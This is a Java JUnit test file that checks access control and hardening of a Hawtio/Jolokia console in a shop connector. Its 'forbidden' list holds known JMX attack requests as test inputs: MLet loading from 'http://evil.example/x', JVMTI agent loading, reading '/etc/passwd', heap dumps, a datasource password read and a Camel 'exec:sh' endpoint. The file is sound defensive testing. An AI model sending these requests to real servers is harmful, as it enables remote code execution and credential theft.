package dev.shopconnector.pages;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import dev.shopconnector.access.Role;
import dev.shopconnector.access.Users;
import dev.shopconnector.testing.RunningConnector;
import java.net.http.HttpRequest;
import java.net.http.HttpRequest.BodyPublishers;
import java.net.http.HttpResponse;
import java.util.ArrayList;
import java.util.List;
import java.util.TreeSet;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

/** Who gets to Hawtio and jolokia, and what jolokia refuses even an administrator; over plain HTTP. */
class ConsoleDoorTest {
    private static final String JOLOKIA = "/actuator/hawtio/jolokia";
    private static final String SECRET = "given-on-the-command-line";
    private static final String NONE = "";

    private static PageStage stage;
    private static PageClient admin;

    @BeforeAll
    static void start() {
        System.setProperty("console.test.secret", SECRET);
        stage = new PageStage(1);
        Users users = stage.connector.bean(Users.class);
        users.add("ada", PageStage.PASSWORD, Role.ADMINISTRATOR);
        users.add("vera", PageStage.PASSWORD, Role.VIEWER);
        admin = loggedIn("ada");
    }

    @AfterAll
    static void stop() {
        System.clearProperty("console.test.secret");
        stage.close();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {"/actuator/hawtio", "/actuator/hawtio/", "/actuator/hawtio/index.html", "/actuator/hawtio/jmx"})
    void theConsoleAsksForOurLoginAndLeadsBack(String path) {
        PageClient client = new PageClient(stage.connector);
        HttpResponse<String> answer = client.get(path);

        assertThat(answer.statusCode()).isEqualTo(302);
        assertThat(answer.headers().firstValue("Location"))
                .hasValueSatisfying(to -> assertThat(to).endsWith("/login"));
        assertThat(client.logIn("vera", PageStage.PASSWORD)).endsWith(path);
    }

    @ParameterizedTest
    @ValueSource(strings = {"vera", "olga", "ada"})
    void viewersOperatorsAndAdministratorsGetIn(String user) {
        PageClient client = loggedIn(user);

        assertThat(client.get("/actuator/hawtio/index.html").body()).contains("<base href=\"/actuator/hawtio/\"");
        assertThat(asked(client, "{\"type\":\"version\"}").path("status").asInt())
                .isEqualTo(200);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "/actuator/hawtio",
                "/actuator/hawtio/index.html",
                "/actuator/hawtio/plugin",
                "/actuator/hawtio/user",
                "/actuator/hawtio/hawtconfig.json",
                "/actuator/hawtio/jolokia",
                "/actuator/hawtio/jolokia/version",
                "/actuator/jolokia",
                "/actuator/jolokia/list"
            })
    void merchantsGetNoneOfIt(String path) {
        PageClient mia = loggedIn("mia");

        assertThat(mia.get(path).statusCode()).as(path).isEqualTo(403);
        assertThat(post(mia, path, "{\"type\":\"version\"}", mia.cookie("XSRF-TOKEN"), NONE)
                        .statusCode())
                .isEqualTo(403);
    }

    @ParameterizedTest
    @ValueSource(strings = {JOLOKIA, "/actuator/jolokia"})
    void nobodyCallsWithoutALogin(String path) {
        PageClient stranger = new PageClient(stage.connector);

        assertThat(post(stranger, path, "{\"type\":\"version\"}", NONE, NONE).statusCode())
                .isEqualTo(403);
        assertThat(stranger.get(path + "/version").statusCode()).isEqualTo(403);
    }

    @Test
    void aCallNeedsTheTokenOfThePage() {
        String version = "{\"type\":\"version\"}";

        assertThat(post(admin, JOLOKIA, version, NONE, NONE).statusCode()).isEqualTo(403);
        assertThat(post(admin, JOLOKIA, version, "guessed", NONE).statusCode()).isEqualTo(403);
        assertThat(post(admin, JOLOKIA, version, token(admin), NONE).statusCode())
                .isEqualTo(200);
    }

    /** With session and token, as if both had been stolen or the browser let them through. */
    @ParameterizedTest
    @ValueSource(strings = {"https://evil.example", "http://127.0.0.1:1", "null", "http://127.0.0.1", "not an origin"})
    void aPageOfAnotherSiteIsRefused(String origin) {
        HttpResponse<String> answer = post(admin, JOLOKIA, "{\"type\":\"version\"}", token(admin), origin);

        assertThat(answer.statusCode()).isEqualTo(403);
        assertThat(answer.headers().firstValue("Access-Control-Allow-Origin")).isEmpty();
        HttpResponse<String> preflight = admin.send(stage.connector
                .request(JOLOKIA)
                .header("Origin", origin)
                .header("Access-Control-Request-Method", "POST")
                .method("OPTIONS", BodyPublishers.noBody()));
        assertThat(preflight.headers().firstValue("Access-Control-Allow-Origin"))
                .isEmpty();
    }

    @Test
    void ourOwnPageIsNoOtherSite() {
        assertThat(post(admin, JOLOKIA, "{\"type\":\"version\"}", token(admin), stage.connector.url())
                        .statusCode())
                .isEqualTo(200);
    }

    @Test
    void whatABrowserCallsCrossSiteIsRefusedWithoutAnOriginToo() {
        HttpRequest.Builder request = stage.connector
                .request(JOLOKIA)
                .header("Sec-Fetch-Site", "same-site")
                .header("X-XSRF-TOKEN", token(admin))
                .POST(BodyPublishers.ofString("{\"type\":\"version\"}"));

        assertThat(admin.send(request).statusCode()).isEqualTo(403);
    }

    /** A link or a picture could make these; so nothing is answered to GET at all. */
    @ParameterizedTest
    @ValueSource(
            strings = {
                "/version",
                "/list",
                "/read/java.lang:type=Memory",
                "/exec/dev.shopconnector:*/list",
                "?ignoreErrors=true&callback=alert"
            })
    void nothingIsDoneByGet(String call) {
        for (String door : List.of(JOLOKIA, "/actuator/jolokia")) {
            HttpResponse<String> answer = admin.get(door + call);
            assertThat(answer.statusCode()).as(door + call).isEqualTo(403);
        }
    }

    static Stream<Arguments> forbidden() {
        String camel = "org.apache.camel:context=" + context() + ",type=context,name=\\\"" + context() + "\\\"";
        String route = "org.apache.camel:context=" + context() + ",type=routes,name=\\\"orders.poll\\\"";
        return Stream.of(
                        exec("com.sun.management:type=DiagnosticCommand", "vmSystemProperties", "[]"),
                        exec("com.sun.management:type=DiagnosticCommand", "compilerDirectivesAdd", "[\"/etc/passwd\"]"),
                        exec("com.sun.management:type=DiagnosticCommand", "jvmtiAgentLoad", "[\"/tmp/x.so\"]"),
                        exec("com.sun.management:type=HotSpotDiagnostic", "dumpHeap", "[\"/tmp/heap.hprof\",true]"),
                        exec("com.sun.management:type=HotSpotDiagnostic", "setVMOption", "[\"HeapDumpPath\",\"/tmp\"]"),
                        exec("java.util.logging:type=Logging", "setLoggerLevel", "[\"org.apache.hc\",\"ALL\"]"),
                        exec("java.lang:type=Memory", "gc", "[]"),
                        exec("java.lang:type=Threading", "dumpAllThreads(boolean,boolean)", "[true,true]"),
                        exec("jdk.management.jfr:type=FlightRecorder", "newRecording", "[]"),
                        exec(
                                "JMImplementation:type=MBeanServerDelegate",
                                "createMBean",
                                "[\"javax.management.loading.MLet\"]"),
                        exec("javax.management.loading:type=MLet", "getMBeansFromURL", "[\"http://evil.example/x\"]"),
                        exec("jolokia:type=Config", "setDebug", "[true]"),
                        exec(camel, "sendBody(java.lang.String,java.lang.Object)", "[\"file:/tmp\",\"x\"]"),
                        exec(camel, "requestBody", "[\"direct:tiktok.call\",\"x\"]"),
                        exec(camel, "createEndpoint", "[\"exec:sh\"]"),
                        exec(camel, "stop()", "[]"),
                        exec(camel, "setGlobalOption", "[\"a\",\"b\"]"),
                        exec(route, "stop()", "[]"),
                        exec(route, "remove", "[]"),
                        exec(route, "updateRouteFromXml(java.lang.String)", "[\"<route/>\"]"),
                        exec(
                                "org.apache.camel:context=" + context()
                                        + ",type=endpoints,name=\\\"seda://orders.poll\\\"",
                                "browseAllMessagesAsXml(java.lang.Boolean)",
                                "[true]"),
                        exec(
                                "org.apache.camel:context=" + context() + ",type=tracer,name=BacklogTracer",
                                "dumpAllTracedMessagesAsXml()",
                                "[]"),
                        exec("org.springframework.boot:type=Endpoint,name=Env", "environment", "[\"\"]"),
                        exec("hawtio:type=security,area=jmx,name=HawtioDummyJMXSecurity", "canInvoke", "[\"x\"]"),
                        call(
                                "{\"type\":\"read\",\"mbean\":\"java.lang:type=Runtime\",\"attribute\":\"SystemProperties\"}"),
                        call(
                                "{\"type\":\"read\",\"mbean\":\"java.lang:type=Runtime\",\"attribute\":\"InputArguments\"}"),
                        call("{\"type\":\"read\",\"mbean\":\"java.lang:type=Runtime\"}"),
                        call("{\"type\":\"write\",\"mbean\":\"" + camel
                                + "\",\"attribute\":\"Tracing\",\"value\":true}"),
                        call(
                                "{\"type\":\"write\",\"mbean\":\"java.lang:type=Memory\",\"attribute\":\"Verbose\",\"value\":true}"),
                        call("{\"type\":\"notification\",\"command\":\"add\",\"mode\":\"sse\","
                                + "\"mbean\":\"java.lang:type=Memory\",\"client\":\"x\"}"),
                        call("{\"type\":\"exec\",\"mbean\":\"Spring:type=MBeanServer,name=dataSource\","
                                + "\"operation\":\"getPassword\"}"))
                .map(Arguments::of);
    }

    @ParameterizedTest
    @MethodSource("forbidden")
    void whatIsDangerousIsRefusedWhoeverAsks(String call) {
        JsonNode answer = asked(admin, call);

        assertThat(answer.path("status").asInt()).as(answer.toString()).isBetween(400, 499);
        assertThat(answer.path("value").isMissingNode()).isTrue();
        assertThat(answer.toString()).doesNotContain(SECRET).doesNotContain("stacktrace");
        // The same, hidden among others.
        JsonNode many = asked(admin, "[{\"type\":\"version\"}," + call + "]");
        assertThat(many.path(0).path("status").asInt()).isEqualTo(200);
        assertThat(many.path(1).path("status").asInt()).isBetween(400, 499);
    }

    /** The parts of jolokia that would are not there: the call is answered by this process, or not at all. */
    @Test
    void noOtherMachineIsCalledAndNobodyIsNotified() {
        JsonNode local = asked(
                admin,
                "{\"type\":\"read\",\"mbean\":\"java.lang:type=Memory\",\"target\":{\"url\":"
                        + "\"service:jmx:rmi:///jndi/ldap://127.0.0.1:9/x\"}}");
        assertThat(local.path("value").has("HeapMemoryUsage")).isTrue();
        JsonNode listener = asked(admin, "{\"type\":\"notification\",\"command\":\"register\"}");
        assertThat(listener.path("value").path("backend")).isEmpty();
    }

    @Test
    void patternsShowNoMoreThanNames() {
        for (String call : List.of(
                "{\"type\":\"read\",\"mbean\":\"java.lang:*\"}",
                "{\"type\":\"read\",\"mbean\":\"*:type=Runtime,*\"}",
                "{\"type\":\"read\",\"mbean\":\"java.lang:*\",\"attribute\":[\"SystemProperties\"]}",
                "{\"type\":\"list\"}",
                "{\"type\":\"list\",\"path\":\"java.lang/type=Runtime\"}")) {
            assertThat(asked(admin, call).toString()).as(call).doesNotContain(SECRET, "SystemProperties\":");
        }
    }

    @Test
    void onlyWhatTheConsoleNeedsIsListed() {
        List<String> domains = new ArrayList<>();
        asked(admin, "{\"type\":\"list\"}").path("value").fieldNames().forEachRemaining(domains::add);

        assertThat(new TreeSet<>(domains)).containsExactly("dev.shopconnector", "java.lang", "org.apache.camel");
        asked(admin, "{\"type\":\"search\",\"mbean\":\"*:*\"}").path("value").forEach(name -> assertThat(name.asText())
                .matches("(dev\\.shopconnector|java\\.lang|org\\.apache\\.camel):.*")
                .doesNotContain("type=tracer", "type=debugger", "type=Runtime"));
    }

    @Test
    void aStackTraceIsNotToBeHad() {
        JsonNode answer = asked(
                admin,
                "{\"type\":\"exec\",\"mbean\":\"" + ours("Shops")
                        + "\",\"operation\":\"pause\",\"arguments\":[\"unknown\",\"\"],\"config\":{\"includeStackTrace\":\"true\"}}");

        assertThat(asked(admin, "{\"type\":\"search\",\"mbean\":\"dev.shopconnector:*\"}")
                        .toString())
                .contains(ours("Shops"));
        assertThat(answer.path("status").asInt()).isNotEqualTo(200);
        assertThat(answer.path("error").asText()).contains("No shop has this id");
        assertThat(answer.has("stacktrace")).isFalse();
    }

    @Test
    void whatDrawsARouteIsAllowed() {
        JsonNode answer = asked(
                admin,
                "{\"type\":\"exec\",\"mbean\":\"org.apache.camel:context=" + context() + ",type=context,name=\\\""
                        + context() + "\\\"\",\"operation\":\"dumpRoutesAsXml()\"}");

        // Hawtio draws nothing any more once it met an error handler.
        assertThat(answer.path("value").asText())
                .contains("id=\"orders.judge\"", "<from id=\"orders.judge.order\"")
                .doesNotContain("errorHandler");
        JsonNode counts = asked(
                admin,
                "{\"type\":\"exec\",\"mbean\":\"org.apache.camel:context=" + context() + ",type=context,name=\\\""
                        + context()
                        + "\\\"\",\"operation\":\"dumpRoutesStatsAsXml(boolean,boolean)\",\"arguments\":[false,true]}");
        // The numbers at the steps; without MBeans of steps there are none.
        assertThat(counts.path("value").asText()).contains("<processorStat id=\"orders.judge.facts\"");
    }

    @Test
    void theConsoleHasAPolicyOfItsOwn() {
        HttpResponse<String> answer = admin.get("/actuator/hawtio/index.html");

        assertThat(answer.headers().allValues("Content-Security-Policy"))
                .singleElement()
                .satisfies(policy -> assertThat(policy)
                        .contains(
                                "default-src 'none'",
                                "script-src 'self';",
                                "connect-src 'self'",
                                "frame-ancestors 'none'"));
        assertThat(answer.headers().allValues("X-Frame-Options")).containsOnly("DENY");
        assertThat(answer.headers().firstValue("Access-Control-Allow-Origin")).isEmpty();
        assertThat(answer.body()).doesNotContain("<script>");
    }

    /** Hawtio's ways to other machines and logins of its own are not there. */
    @ParameterizedTest
    @ValueSource(strings = {"/proxy/http/evil.example/80/", "/auth/login", "/keycloak/enabled"})
    void whatElseHawtioBringsIsNotThere(String path) {
        HttpResponse<String> answer = admin.send(stage.connector
                .request("/actuator/hawtio" + path)
                .header("X-XSRF-TOKEN", token(admin))
                .POST(BodyPublishers.ofString("{}")));

        assertThat(answer.statusCode()).isIn(403, 404, 405);
    }

    private static String context() {
        return stage.connector.bean(dev.shopconnector.flows.Flows.class).camel().getName();
    }

    private static String ours(String name) {
        return "dev.shopconnector:node="
                + stage.connector
                        .bean(org.springframework.core.env.Environment.class)
                        .getProperty("camel.main.name")
                + ",name=" + name;
    }

    private static String exec(String mbean, String operation, String arguments) {
        return "{\"type\":\"exec\",\"mbean\":\"" + mbean + "\",\"operation\":\"" + operation + "\",\"arguments\":"
                + arguments + "}";
    }

    private static String call(String json) {
        return json;
    }

    private static PageClient loggedIn(String user) {
        PageClient client = new PageClient(stage.connector);
        client.logIn(user, PageStage.PASSWORD);
        return client;
    }

    private static String token(PageClient client) {
        if (client.cookie("XSRF-TOKEN").isEmpty()) {
            client.get("/actuator/hawtio/index.html");
        }
        return client.cookie("XSRF-TOKEN");
    }

    private static JsonNode asked(PageClient client, String call) {
        HttpResponse<String> answer = post(client, JOLOKIA, call, token(client), NONE);
        assertThat(answer.statusCode()).as(answer.body()).isEqualTo(200);
        return RunningConnector.json(answer);
    }

    private static HttpResponse<String> post(PageClient client, String path, String body, String token, String origin) {
        HttpRequest.Builder request = stage.connector.request(path).header("Content-Type", "application/json");
        if (!token.isEmpty()) {
            request.header("X-XSRF-TOKEN", token);
        }
        if (!origin.isEmpty()) {
            request.header("Origin", origin);
        }
        return client.send(request.POST(BodyPublishers.ofString(body)));
    }
}
